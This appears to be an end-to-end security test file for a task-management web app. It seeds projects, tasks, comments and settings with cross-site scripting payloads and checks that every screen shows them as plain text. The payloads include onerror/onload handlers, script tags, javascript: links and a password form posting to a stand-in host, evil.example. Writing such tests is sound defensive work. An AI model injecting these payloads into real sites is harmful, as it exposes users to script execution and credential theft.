import type { Person } from './support/person';
import { addressOf, type Parameters, signedInPaths } from './support/screens';
import { useStage } from './support/stage';

/** Whatever people type comes back as what they typed: on no screen does it become a script, a picture or a link of its own. */
const stage = useStage();

/** Runs in every place where text could become markup; in 50 characters, the shortest limit. */
const script = `"'><img src=x onerror=alert(1)><b id=hit>`;
const markup = `<p>${script}</p><svg onload="alert(2)"><script>alert(3)</script></svg><a href="javascript:alert(4)">odkaz</a>
<iframe srcdoc="<script>alert(5)</script>"></iframe><form action="https://evil.example"><input name="password"></form>
<p style="position:fixed;inset:0" onclick="alert(6)" id="hit">text</p><img src="https://evil.example/x.png" onerror="alert(7)">`;

let reader: Person;
let parameters: Parameters;
const alerts: string[] = [];

beforeAll(async () => {
  const attacker = await stage.person(`Eva ${script}`.slice(0, 100));
  reader = await stage.person('Karla Svobodová');
  reader.page.on('dialog', (dialog) => {
    alerts.push(dialog.message());
    void dialog.dismiss();
  });
  const [eva, me] = [await attacker.id(), await reader.id()];
  const deadline = new Date(Date.now() + 86_400_000).toISOString();
  const position = await attacker.send('POST', '/positions', { name: script });
  for (const id of [eva, me]) await attacker.send('PATCH', `/users/${id}`, { positionIds: [position.id] });
  await attacker.send('PATCH', '/settings', { brandName: script });
  const project = await attacker.send('POST', '/projects', {
    name: script,
    description: markup,
    externalTicketSystemUrl: 'https://git.firma.example/"><script>alert(8)</script>',
    contracts: [{ contractId: script, name: script, client: script }],
  });
  await attacker.send('POST', `/projects/${project.id}/members`, {
    userId: me,
    permission: 'manage',
    notification: 'all',
  });
  const board = await attacker.send('POST', `/projects/${project.id}/boards`, {
    name: script,
    description: script,
    section: 'todo',
    assignedUserId: eva,
  });
  const webhook = await attacker.send('POST', `/projects/${project.id}/webhooks`, {
    name: script,
    backlogBoardName: script,
  });
  const task = await attacker.send('POST', '/tasks', {
    name: script,
    description: markup,
    solverId: me,
    projectId: project.id,
    boardId: board.id,
    tags: [script],
    externalUrl: 'https://firma.example/"onclick="alert(9)',
    deadline,
    type: 'graph',
  });
  await attacker.send('POST', `/tasks/${task.id}/subtasks`, { name: script, solverId: me, deadline });
  await attacker.send('POST', `/tasks/${task.id}/comments`, { text: `${script} ${markup} @[${me}]` });
  await reader.send('POST', '/work/start', { taskId: task.id });
  const done = await attacker.send('POST', '/tasks', { name: script, solverId: me });
  await reader.send('POST', `/tasks/${done.id}/complete`, { result: script });
  await attacker.send('POST', `/tasks/${done.id}/return`, { reason: script });
  const repeated = await attacker.send('POST', '/repeated-tasks', {
    name: script,
    firstDeadline: deadline,
    repeat: 'weekly',
    solverId: me,
    template: { contractorId: me, description: markup, tags: [script] },
  });
  await reader.send('POST', '/plans', {
    date: deadline.slice(0, 10),
    from: '08:00',
    to: '16:00',
    type: 'at_client',
    location: script,
    positionId: position.id,
  });
  await attacker.leave();
  parameters = {
    userId: me,
    projectId: project.id,
    boardId: board.id,
    repeatedTaskId: repeated.id,
    webhook: webhook.id,
    task: task.id,
    area: 'contracts',
    kind: 'project',
    id: project.id,
  };
});

it.each([
  ...signedInPaths,
  '/tasks?taskId=$task',
  '/tasks?taskId=$task&tab=information',
  '/tasks?taskId=$task&tab=comments',
  '/tasks?graph=$task',
  '/tasks/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
  '/tasks/project/$projectId/webhooks?webhook=$webhook',
  '/tasks/calendar?view=week',
  `/nowhere/${encodeURIComponent(script)}`,
  '/login?redirectTo=javascript:alert(1)',
])('%s shows it and runs none of it', async (path) => {
  const { page } = reader;
  await reader.open(addressOf(path, parameters));
  await reader.heading.or(reader.panel.locator('h2')).or(page.getByRole('dialog')).first().waitFor();
  await page.waitForLoadState('networkidle');
  const planted = await page.evaluate(() =>
    [
      ...document.querySelectorAll(
        '#hit, img[src="x"], [onerror], [onload], [onclick], iframe[srcdoc], form[action*="evil"], [href^="javascript:"], [src*="evil.example"]',
      ),
    ].map(({ outerHTML }) => outerHTML.slice(0, 200)),
  );
  expect(planted).toEqual([]);
  expect(alerts).toEqual([]);
});

it('shows it letter by letter: nothing of a name is left out', async () => {
  await reader.open(addressOf('/tasks?taskId=$task', parameters));
  await reader.title(script).waitFor();
  await reader.panel.getByText(`Eva ${script}`).first().waitFor();
});
